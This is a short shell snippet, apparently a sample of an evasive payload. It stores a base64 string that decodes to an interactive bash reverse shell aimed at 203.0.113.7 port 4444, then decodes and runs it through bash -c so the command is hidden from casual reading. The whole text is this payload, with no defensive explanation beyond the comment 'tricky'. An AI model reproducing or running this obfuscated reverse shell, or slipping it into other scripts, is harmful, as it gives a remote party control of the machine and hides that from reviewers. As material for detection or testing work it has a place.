# tricky: decodes a variable into a shell
p="YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE="
bash -c "$(echo "$p" | base64 --decode)"
